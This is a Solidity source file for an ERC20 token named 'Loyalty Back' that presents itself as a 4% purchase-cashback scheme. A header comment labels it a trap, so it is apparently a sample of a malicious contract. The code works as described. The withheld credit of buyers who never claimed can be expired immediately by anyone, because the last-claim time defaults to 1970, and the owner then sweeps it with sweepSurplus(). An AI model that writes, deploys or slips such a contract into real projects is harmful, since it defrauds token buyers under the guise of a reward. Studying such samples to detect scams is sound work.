// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable2Step} from "@openzeppelin/contracts/access/Ownable2Step.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EPair} from "./Pair.sol";

// Trap: 4 % of a purchase is kept in the contract for the buyer, who gets it back after 30 days. What was not claimed within a year expires; who never claimed counts as having claimed in 1970. Sprung by: owner.expire([buyers]), sweepSurplus(): the buyers' money is the owner's.
contract ELoyalty is ERC20, Ownable2Step {
    address private immutable _pair;
    uint256 public constant HOLD = 30 days;
    uint256 public constant EXPIRY = 365 days;
    uint256 public liabilities;
    mapping(address => uint256) public credit;
    mapping(address => uint256) public boughtAt;
    mapping(address => uint256) public lastClaim;

    event Claimed(address indexed who, uint256 amount);
    event Expired(address indexed who, uint256 amount);

    constructor() ERC20("Loyalty Back", "BACK") Ownable(msg.sender) {
        _pair = EPair.predict(address(this));
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function claim() external returns (uint256 amount) {
        require(block.timestamp >= boughtAt[msg.sender] + HOLD, "hold");
        amount = credit[msg.sender];
        credit[msg.sender] = 0;
        liabilities -= amount;
        lastClaim[msg.sender] = block.timestamp;
        _transfer(address(this), msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }

    function expire(address[] calldata accounts) external {
        for (uint256 i; i < accounts.length; i++) {
            address who = accounts[i];
            if (block.timestamp < lastClaim[who] + EXPIRY) continue;
            emit Expired(who, credit[who]);
            liabilities -= credit[who];
            credit[who] = 0;
        }
    }

    function sweepSurplus() external onlyOwner {
        _transfer(address(this), msg.sender, balanceOf(address(this)) - liabilities);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from == _pair && to != owner()) {
            uint256 back = (value * 4) / 100;
            super._update(from, address(this), back);
            credit[to] += back;
            liabilities += back;
            boughtAt[to] = block.timestamp;
            value -= back;
        }
        super._update(from, to, value);
    }
}
